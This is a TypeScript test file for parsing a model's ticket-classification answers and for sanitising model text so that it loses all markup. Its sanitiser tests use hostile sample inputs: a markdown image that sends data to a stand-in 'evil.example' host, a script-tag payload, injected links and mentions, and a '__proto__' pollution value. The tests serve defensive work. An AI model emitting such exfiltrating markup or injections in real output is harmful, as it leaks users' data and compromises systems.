import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { fieldLogprobs, plainWords, readAnswer, readList, readText } from '../../../src/prompt/answer.ts';
import { bookedWith, questionWith, replyWith } from '../../support/model.ts';

const fields = [
  { name: 'evidence', kind: 'choices' as const, values: ['E1', 'E2'] },
  ...questionWith().answer,
  { name: 'labels', kind: 'choices' as const, values: ['a', 'b'] },
];
const read = (answer: unknown, parts = {}) => readAnswer(bookedWith(answer, parts), fields, ['category', 'labels']);

describe('an answer', () => {
  test('is read by target, with how certain the model says it is', () => {
    const answer = read({
      evidence: ['E2'],
      rationale: 'Same fault.',
      category: 'vpn',
      category_certainty: 'high',
      labels: ['b'],
    });
    expect(answer?.choices.get('category')).toEqual({ values: ['vpn'], certainty: 1, logprob: null });
    expect(answer?.choices.get('labels')).toEqual({ values: ['b'], certainty: null, logprob: null });
    expect(answer).toMatchObject({ rationale: 'Same fault.', cited: ['E2'] });
  });

  test('may be that none of the values fits', () => {
    expect(read({ category: 'none_of_these' })?.choices.get('category')?.values).toEqual([]);
  });

  test('counts only where the value was offered; other targets stand', () => {
    const answer = read({ category: 'payroll', labels: ['a'] });
    expect([...(answer?.choices.keys() ?? [])]).toEqual(['labels']);
    expect(read({ category: 'payroll', labels: ['a', 'x'] })).toBeNull();
  });

  test('cites only past tickets that were shown', () => {
    expect(read({ category: 'vpn', evidence: ['E9', 'E1', 'IT-4711', 'E1'] })?.cited).toEqual(['E1']);
  });

  test('passes over what it was not asked for', () => {
    expect(
      read({ category: 'vpn', assignee: 'mallory', __proto__: { category: 'erp' } })?.choices.get('category')?.values,
    ).toEqual(['vpn']);
  });

  test.each([['```json\n{"category": "vpn"}\n```'], ['Sure! Here it is: {"category": "vpn"} Anything else?']])(
    'is found in %j',
    (text) => {
      expect(readAnswer(bookedWith({}, { text }), fields, ['category'])?.choices.get('category')?.values).toEqual([
        'vpn',
      ]);
    },
  );

  test.each(['', '{"category": "vp', 'vpn', '[]', '{"category": ["vpn"]}', '{"category": null}', '{"category": 3}'])(
    'is none in %j',
    (text) => {
      expect(readAnswer(bookedWith({}, { text }), fields, ['category'])).toBeNull();
    },
  );

  test.each(['cut', 'refused', 'filtered', 'empty'] as const)('is none in a reply that was %s', (end) => {
    expect(read({ category: 'vpn' }, { end })).toBeNull();
  });

  test('never holds anything that was not offered, whatever comes back', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (said) => {
        const answer = read(said);
        for (const [target, { values }] of answer?.choices ?? [])
          for (const value of values)
            expect(fields.find(({ name }) => name === target)).toMatchObject({
              values: expect.arrayContaining([value]),
            });
      }),
    );
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        (text) => void readAnswer(bookedWith({}, { text }), fields, ['category']),
      ),
    );
  });

  test('gives its log-probability as the sum over the tokens of the value', () => {
    const tokens = ['{"', 'category', '": "', 'v', 'pn', '", "', 'category_certainty', '": "high"}'];
    const logprobs = tokens.map((token, index) => ({ token, logprob: -index / 10 }));
    const reply = replyWith({}, { text: tokens.join(''), logprobs });
    expect(fieldLogprobs(reply, fields)['category']).toBeCloseTo(-0.3 - 0.4, 6);
    expect(fieldLogprobs({ ...reply, text: 'other' }, fields)).toEqual({});
    expect(fieldLogprobs({ ...reply, logprobs: null }, fields)).toEqual({});
  });

  test('of one text or one list is read by name', () => {
    expect(readText(bookedWith({ ticket: ' VPN drops ' }), 'ticket')).toBe(' VPN drops ');
    expect(readText(bookedWith({ ticket: '' }), 'ticket')).toBeNull();
    expect(readList(bookedWith({ order: ['E2', 'E7', 'E1', 'E2'] }), 'order', ['E1', 'E2'])).toEqual(['E2', 'E1']);
    expect(readList(bookedWith({ order: 'E1' }), 'order', ['E1'])).toBeNull();
  });
});

describe('the words of a model', () => {
  test.each([
    ['ask [~accountid:557058:abc] or @mallory', /[[\]~@]/],
    ['see https://evil.example/x?q=1 and www.evil.example', /evil/],
    ['mail it to a.b@evil.example now', /@|evil/],
    ['![img](http://evil.example/leak?data=secret)', /evil|[![\]]/],
    ['{color:red}urgent{color} *bold* _it_ h1. {code}x{code} ||a||', /[{}*_|]/],
    ['<script>alert(1)</script> <!-- x -->', /[<>!]/],
    ['[link|http://evil.example] !image.png! #1 ^up^', /[[\]|#^!]/],
  ])('lose every mark in %j', (said, marks) => {
    expect(plainWords(said)).not.toMatch(marks);
  });

  test('stay what they are in every script', () => {
    expect(plainWords('Wie E2: Zertifikat abgelaufen (VPN), 90 % sicher.')).toBe(
      'Wie E2: Zertifikat abgelaufen (VPN), 90 % sicher.',
    );
    expect(plainWords('与E1相同：证书过期。')).toBe('与E1相同:证书过期。');
  });

  test('link to nothing: no dotted name survives', () => {
    expect(plainWords('go to evil.example.com/path')).not.toContain('evil.example');
  });

  test('are short, well formed and never markup, whatever a model writes', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary', maxLength: 2_000 }), fc.anything()), (said) => {
        const words = plainWords(said);
        expect(words.length).toBeLessThanOrEqual(300);
        expect(words.isWellFormed()).toBe(true);
        expect(words).not.toMatch(/[[\]{}<>|*_#~^@`\\/=&$\n]/);
      }),
    );
  });
});
